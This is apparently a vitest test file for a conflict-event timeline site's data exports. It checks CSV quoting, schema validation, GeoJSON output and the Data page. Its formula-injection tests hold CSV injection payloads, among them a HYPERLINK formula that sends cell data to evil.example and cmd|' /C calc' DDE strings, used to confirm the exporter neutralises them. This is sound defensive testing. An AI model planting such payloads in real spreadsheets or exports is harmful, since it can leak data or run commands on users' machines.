import { readFile } from 'node:fs/promises'
import Ajv2020 from 'ajv/dist/2020.js'
import { load } from 'cheerio'
import { beforeAll, describe, expect, it } from 'vitest'
import type { TimelineEvent } from '../../src/model/event.js'
import { EVENT_COLUMNS } from '../../src/render/event-columns.js'
import { csvField, eventsCsv, neutralizeFormula } from '../../src/render/events-csv.js'
import { renderOutputs } from '../../src/render/render-outputs.js'
import { defaultSiteSettings } from '../../src/publish/site-settings.js'
import { RECORD_FIELDS } from '../../src/render/record-fields.js'
import type { ArticleRecord } from '../../src/model/timeline-data.js'
import type { Timeline } from '../../src/site/timeline.js'
import { buildFixture, type BuiltSite, timelineOf } from '../helpers/build-fixture.js'

/** A strict RFC 4180 reader: CRLF after every record, quotes only around whole fields, doubled inside. Throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  let wasQuoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
      continue
    }
    if (c === '"' && field === '' && !wasQuoted) {
      quoted = true
      wasQuoted = true
      continue
    }
    if (c === ',') {
      row.push(field)
      field = ''
      wasQuoted = false
      continue
    }
    if (c === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      wasQuoted = false
      i++
      continue
    }
    if (c === '"' || c === '\r' || c === '\n' || wasQuoted) throw new Error(`Not RFC 4180: unexpected ${JSON.stringify(c)} at offset ${i}.`)
    field += c
  }
  if (quoted || field !== '' || row.length > 0) throw new Error('Not RFC 4180: the last record does not end with CRLF.')
  return rows
}

const EVENT_SCHEMA = 'src/model/event.schema.json'

/** The article record both CSV tests start from: its awkward values are the round-trip test's. */
const csvArticle = (changes: Partial<ArticleRecord> = {}): ArticleRecord => ({
  path: 'seeds/a.md',
  slug: 'a',
  title: 'A',
  source: 'Wire, "Daily"',
  sourceSlug: 'wire',
  url: 'https://example.org/a;b?x=1,2',
  archived: null,
  date: '2023-10-24',
  author: null,
  original: null,
  copy: null,
  dateInferred: false,
  dateNote: null,
  html: '',
  setAside: [],
  events: ['e'],
  ...changes,
})

/** The event both CSV tests start from: its awkward values are the round-trip test's. */
const csvEvent = (changes: Partial<TimelineEvent> = {}): TimelineEvent => ({
  id: '2023-10-22-x-attack',
  type: 'attack',
  date: '2023-10-22',
  dateEnd: '2023-10-22',
  datePrecision: 'day',
  location: { id: null, name: 'Camp "Victory", Baghdad', country: 'Iraq', admin1: null, lat: null, lon: null, precision: 'area' },
  weapons: ['drone', 'rocket'],
  actors: ["Kata'ib Hezbollah", 'Islamic Resistance in Iraq'],
  killed: null,
  injured: { min: 0, max: 3 },
  status: 'claimed',
  disputed: true,
  grade: 'contested',
  independentSources: 1,
  summary: 'Drone and rocket attack on Camp "Victory",\nBaghdad',
  mergeReasons: [],
  reports: [
    {
      article: 'seeds/a.md',
      source: 'Wire',
      quote: 'q',
      start: 0,
      end: 1,
      claimant: 'X',
      claimantKind: 'militia',
      status: 'claimed',
      killed: null,
      injured: null,
      dateText: null,
      saidOn: '2023-10-20',
      denies: null,
      origin: 'Wire',
    },
  ],
  ...changes,
})

describe('CSV fields (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
  ])('%j is written %j', (text, expected) => {
    expect(csvField(text)).toBe(expected)
  })

  it('the strict reader really refuses malformed CSV', () => {
    expect(() => parseCsv('a,b\n')).toThrow(/RFC 4180/)
    expect(() => parseCsv('a,"b"c\r\n')).toThrow(/RFC 4180/)
    expect(() => parseCsv('a,b')).toThrow(/RFC 4180/)
  })

  it('round-trips awkward values: commas, quotes, line breaks, lists and missing figures', () => {
    const article = csvArticle()
    const event = csvEvent()
    const rows = parseCsv(eventsCsv([event], [article]))
    expect(rows[0]).toEqual(EVENT_COLUMNS.map((c) => c.name))
    const row = Object.fromEntries(EVENT_COLUMNS.map((c, i) => [c.name, rows[1]?.[i]]))
    expect(row).toMatchObject({
      location: 'Camp "Victory", Baghdad',
      admin1: '',
      latitude: '',
      longitude: '',
      weapons: 'drone; rocket',
      actors: "Kata'ib Hezbollah; Islamic Resistance in Iraq",
      killed_min: '',
      killed_max: '',
      injured_min: '0',
      injured_max: '3',
      disputed: 'true',
      summary: 'Drone and rocket attack on Camp "Victory",\nBaghdad',
      sources_count: '1',
      source_urls: 'https://example.org/a;b?x=1,2',
    })
  })
})

/** How a formula begins, to a spreadsheet (OWASP, "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['', ''],
    ['Al-Tanf', 'Al-Tanf'],
    ['a=b', 'a=b'],
    ["'=1", "'=1"],
  ])('%j is written %j', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected)
  })

  it('neutralises every text column, keeps RFC 4180 quoting, and writes numbers, negative ones too, as numbers', () => {
    const article = csvArticle({ title: '=A', source: '@B', sourceSlug: 'b', url: '=1+1' })
    const event = csvEvent({
      location: { id: null, name: '=HYPERLINK("https://evil.example","x")', country: '+Iraq', admin1: '\t-Anbar', lat: -33.45, lon: -70.66, precision: 'area' },
      weapons: ['@drone'],
      actors: ['-Group', 'Other'],
      killed: { min: 0, max: 2 },
      injured: null,
      disputed: false,
      summary: "\r=cmd|' /C calc'!A0",
    })
    const rows = parseCsv(eventsCsv([event], [article]))
    const row = Object.fromEntries(EVENT_COLUMNS.map((c, i) => [c.name, rows[1]?.[i]]))
    expect(row).toMatchObject({
      location: '\'=HYPERLINK("https://evil.example","x")',
      country: "'+Iraq",
      admin1: "'\t-Anbar",
      weapons: "'@drone",
      actors: "'-Group; Other",
      summary: "'\r=cmd|' /C calc'!A0",
      source_urls: "'=1+1",
      latitude: '-33.45',
      longitude: '-70.66',
      killed_min: '0',
      killed_max: '2',
    })
    for (const [name, cell] of Object.entries(row)) if (!['latitude', 'longitude'].includes(name)) expect(cell ?? '', name).not.toMatch(FORMULA_START)
  })
})

describe('the open data of the seeds build', () => {
  let site: BuiltSite
  let timeline: Timeline
  beforeAll(async () => {
    site = await buildFixture('seeds')
    timeline = timelineOf(site)
  })

  it('events.json holds every record, in timeline order, each valid against the published JSON Schema', async () => {
    const records = JSON.parse(await site.read('data/events.json')) as TimelineEvent[]
    expect(records.map((r) => r.id)).toEqual(timeline.views.events.map((e) => e.id))
    expect(records).toEqual(expect.arrayContaining(timeline.events))
    const schema = JSON.parse(await site.read('data/event.schema.json')) as object
    expect(await site.read('data/event.schema.json')).toBe(await readFile(EVENT_SCHEMA, 'utf8'))
    const validate = new Ajv2020.default({ allErrors: true }).compile(schema)
    for (const record of records) expect(validate(record), `${record.id}: ${JSON.stringify(validate.errors)}`).toBe(true)
    // The validator does reject a record that breaks the contract.
    expect(validate({ ...records[0], status: 'rumoured' })).toBe(false)
  })

  it('events.csv has a header and one RFC 4180 row per event, with the records’ values', async () => {
    const text = await site.read('data/events.csv')
    expect(text.charCodeAt(0)).not.toBe(0xfeff)
    const [header, ...rows] = parseCsv(text)
    expect(header).toEqual([
      'event_id',
      'event_date',
      'event_date_end',
      'date_precision',
      'type',
      'location',
      'location_precision',
      'admin1',
      'country',
      'latitude',
      'longitude',
      'actors',
      'weapons',
      'killed_min',
      'killed_max',
      'injured_min',
      'injured_max',
      'status',
      'disputed',
      'grade',
      'summary',
      'reports_count',
      'sources_count',
      'independent_sources',
      'source_urls',
    ])
    expect(rows).toHaveLength(timeline.events.length)
    const articles = new Map(timeline.articles.map((a) => [a.path, a]))
    for (const cells of rows) {
      const row = Object.fromEntries((header ?? []).map((name, i) => [name, cells[i] ?? '']))
      const event = timeline.events.find((e) => e.id === row.event_id)
      expect(event, row.event_id).toBeDefined()
      if (event === undefined) continue
      expect(row).toMatchObject({
        event_date: event.date,
        event_date_end: event.dateEnd,
        date_precision: event.datePrecision,
        type: event.type,
        status: event.status,
        grade: event.grade,
        independent_sources: String(event.independentSources),
      })
      expect(row.location).toBe(event.location?.name ?? '')
      expect(row.latitude === '' ? null : Number(row.latitude)).toBe(event.location?.lat ?? null)
      expect(row.longitude === '' ? null : Number(row.longitude)).toBe(event.location?.lon ?? null)
      expect(row.killed_min === '' ? null : Number(row.killed_min)).toBe(event.killed?.min ?? null)
      expect(row.injured_max === '' ? null : Number(row.injured_max)).toBe(event.injured?.max ?? null)
      expect(row.weapons).toBe(event.weapons.join('; '))
      expect(row.actors).toBe(event.actors.join('; '))
      const urls = [...new Set(event.reports.map((r) => articles.get(r.article)?.url).filter((u) => u != null))]
      expect(row.source_urls?.split(' ').filter(Boolean)).toEqual(urls)
      expect(Number(row.sources_count)).toBe(new Set(event.reports.map((r) => r.article)).size)
    }
  })

  it('events.csv of hostile data: no text cell begins like a formula, and every value reads back with its quote taken off', () => {
    // Hostile values where the data holds text, as a scraped article could put them: the place, the groups, the summary, the article's address.
    const hostile = (text: string, i: number): string => `${['=', '+', '-', '@', '\t', '\r'][i % 6]}${text}`
    const events = timeline.events.map((e, i) => ({
      ...e,
      summary: hostile(e.summary, i),
      actors: e.actors.map((a, j) => hostile(a, i + j)),
      location: e.location && { ...e.location, name: hostile(e.location.name, i + 1) },
    }))
    const articles = timeline.articles.map((a, i) => ({ ...a, url: a.url === null ? null : hostile(a.url, i) }))
    const csv = renderOutputs({ ...timeline, events, articles }, defaultSiteSettings, []).find((f) => f.path === 'data/events.csv')?.content ?? ''
    const [header, ...rows] = parseCsv(csv)
    expect(rows).toHaveLength(events.length)
    const numeric = new Set(['latitude', 'longitude', 'killed_min', 'killed_max', 'injured_min', 'injured_max', 'reports_count', 'sources_count'])
    for (const cells of rows) {
      const row = Object.fromEntries((header ?? []).map((name, i) => [name, cells[i] ?? '']))
      for (const [name, cell] of Object.entries(row)) {
        if (numeric.has(name)) expect(cell === '' || Number.isFinite(Number(cell)), `${name}: ${cell}`).toBe(true)
        else expect(cell, `${row.event_id} ${name}`).not.toMatch(FORMULA_START)
      }
      const event = events.find((e) => e.id === row.event_id)
      expect(row.summary).toBe(`'${event?.summary}`)
      expect(row.location).toBe(event?.location ? `'${event.location.name}` : '')
    }
  })

  it('events.geojson has a Point per located event, longitude first, with the CSV columns as properties', async () => {
    const geo = JSON.parse(await site.read('data/events.geojson')) as {
      type: string
      features: { type: string; id: string; geometry: { type: string; coordinates: number[] }; properties: Record<string, unknown> }[]
    }
    expect(geo.type).toBe('FeatureCollection')
    const located = timeline.events.filter((e) => e.location?.lat != null && e.location.lon != null)
    expect(geo.features.map((f) => f.id).sort()).toEqual(located.map((e) => e.id).sort())
    for (const feature of geo.features) {
      const event = located.find((e) => e.id === feature.id)
      expect(feature.type).toBe('Feature')
      expect(feature.geometry).toEqual({ type: 'Point', coordinates: [event?.location?.lon, event?.location?.lat] })
      expect(Object.keys(feature.properties).sort()).toEqual(
        EVENT_COLUMNS.map((c) => c.name)
          .filter((n) => n !== 'latitude' && n !== 'longitude')
          .sort(),
      )
      expect(feature.properties.weapons).toEqual(event?.weapons)
    }
  })

  it('the Data page links every file, documents every column and field, and says under what licence', async () => {
    const $ = load(await site.read('data/index.html'))
    const hrefs = $('main a')
      .map((_, a) => $(a).attr('href'))
      .get()
    for (const file of [
      '/data/events.json',
      '/data/events.csv',
      '/data/events.geojson',
      '/data/event.schema.json',
      '/feeds/events.atom',
      '/feeds/events.json',
      '/feeds/corrections.atom',
    ])
      expect(hrefs).toContain(file)
    const documented = $('table.fields code')
      .map((_, c) => $(c).text())
      .get()
    for (const column of EVENT_COLUMNS) expect(documented).toContain(column.name)
    for (const field of RECORD_FIELDS) expect(documented).toContain(field.name)
    expect($('#data-licence').parent().text()).toMatch(/Creative Commons Attribution 4\.0.*quoted sentences remain the work of the outlets/s)
    expect($('a[href="/data/events.csv"]').closest('div').find('dd').text()).toMatch(
      /A text field that would begin with =, \+, -, @, a tab or a carriage return starts with a single quote \('\).*numbers, such as a negative longitude, are written as they are/,
    )
    expect($('footer a[href="/data/"]').length).toBe(1)
  })

  it('documents exactly the fields of the record schema', async () => {
    const schema = JSON.parse(await readFile(EVENT_SCHEMA, 'utf8')) as { properties: Record<string, unknown> }
    expect(RECORD_FIELDS.map((f) => f.name).sort()).toEqual(Object.keys(schema.properties).sort())
  })
})
